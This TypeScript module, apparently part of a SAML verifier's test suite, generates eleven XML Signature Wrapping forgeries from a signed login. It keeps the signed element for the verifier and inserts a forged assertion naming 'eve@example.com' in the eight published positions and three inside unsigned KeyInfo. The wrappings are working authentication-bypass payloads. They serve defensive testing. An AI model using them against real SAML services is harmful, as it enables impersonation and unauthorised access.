/**
 * The eight forms of signature wrapping (Somorovsky and others, "On Breaking SAML", 2012; numbered
 * as SAML Raider does), made of a signed login, and three more: in the signature's own KeyInfo,
 * which it does not sign. In each the signed element is still there, for a verifier to find, and a
 * forged one, for a reader to read.
 */
import { ASSERTION_ID, RESPONSE_ID } from './messages.ts';

export const FORGED = 'eve@example.com';

export type Target = 'Response' | 'Assertion';

export interface Pieces {
  readonly whole: string;
  /** The signed element, with and without its Signature. */
  readonly signed: string;
  readonly bare: string;
  readonly signature: string;
  /** The forged element, without a Signature. */
  readonly forged: string;
}

const SIGNATURE = /<ds:Signature [^]*?<\/ds:Signature>/g;

export function piecesOf(xml: string, target: Target, forgedId: string): Pieces {
  const [signed = ''] =
    (target === 'Response'
      ? /<samlp:Response [^]*<\/samlp:Response>/
      : /<Assertion [^]*<\/Assertion>/
    ).exec(xml) ?? [];
  // The Signature of the Response stands before the Assertion's.
  const [signature = ''] = signed.match(SIGNATURE) ?? [];
  const id = target === 'Response' ? RESPONSE_ID : ASSERTION_ID;
  const forged = signed
    .replace(SIGNATURE, '')
    .replace('ada@example.com', FORGED)
    .replace(`ID="${id}"`, `ID="${forgedId}"`);
  return { whole: xml, signed, bare: signed.replace(signature, ''), signature, forged };
}

const afterIssuer = (element: string, what: string): string =>
  element.replace(/<\/Issuer>/, (end) => end + what);
const asLastChild = (element: string, what: string): string => {
  const at = element.lastIndexOf('</');
  return element.slice(0, at) + what + element.slice(at);
};
const inSignature = (signature: string, what: string): string =>
  signature.replace('</ds:Signature>', (end) => what + end);

/** In an element of that name in no namespace, in place of the right one. */
const inOtherKeyInfo = (signature: string, what: string): string =>
  signature.replace(/<ds:KeyInfo>[^]*<\/ds:KeyInfo>/, () => `<KeyInfo xmlns="">${what}</KeyInfo>`);

const extensions = (what: string): string => `<samlp:Extensions>${what}</samlp:Extensions>`;
/** Beside the certificate, which stays to be found. */
const inKeyInfo = (signature: string, what: string): string =>
  signature.replace('</ds:KeyInfo>', (end) => what + end);
const inX509Data = (signature: string, what: string): string =>
  signature.replace('</ds:X509Data>', (end) => what + end);
const object = (what: string): string => `<ds:Object>${what}</ds:Object>`;

/** What replaces the signed element, by the number of the form. */
export const FORMS: ReadonlyMap<number, (pieces: Pieces) => string> = new Map([
  [1, ({ forged, signature, bare }) => afterIssuer(forged, inSignature(signature, bare))],
  [2, ({ forged, signature, bare }) => afterIssuer(forged, bare + signature)],
  [3, ({ forged, signed }) => forged + signed],
  [4, ({ forged, signed }) => asLastChild(forged, signed)],
  [5, ({ forged, signature, bare }) => afterIssuer(forged, signature) + bare],
  [
    6,
    ({ forged, signature, bare }) =>
      afterIssuer(forged, inSignature(signature, `<x xmlns="urn:x">${bare}</x>`)),
  ],
  [7, ({ forged, signed }) => extensions(forged) + signed],
  [8, ({ forged, signature, bare }) => afterIssuer(forged, inSignature(signature, object(bare)))],
  [
    9,
    ({ forged, signature, signed }) =>
      signed.replace(signature, () => inKeyInfo(signature, forged)),
  ],
  [
    10,
    ({ forged, signature, signed }) =>
      signed.replace(signature, () => inX509Data(signature, forged)),
  ],
  [
    11,
    ({ forged, signature, signed }) =>
      signed.replace(signature, () => inOtherKeyInfo(signature, forged)),
  ],
]);

/**
 * Forms 3, 5 and 7 put things beside the signed element; beside a root they go into a forged one.
 */
const ROOT_FORMS: ReadonlyMap<number, (pieces: Pieces) => string> = new Map([
  [3, ({ forged, signed }) => afterIssuer(forged, signed)],
  [5, ({ forged, signature, bare }) => asLastChild(afterIssuer(forged, signature), bare)],
  [7, ({ forged, signed }) => afterIssuer(forged, extensions(signed))],
]);

export function wrap(form: number, target: Target, pieces: Pieces): string {
  const make = (target === 'Response' ? ROOT_FORMS.get(form) : undefined) ?? FORMS.get(form);
  if (!make) throw new Error(`there is no form ${form}`);
  return pieces.whole.replace(pieces.signed, () => make(pieces));
}
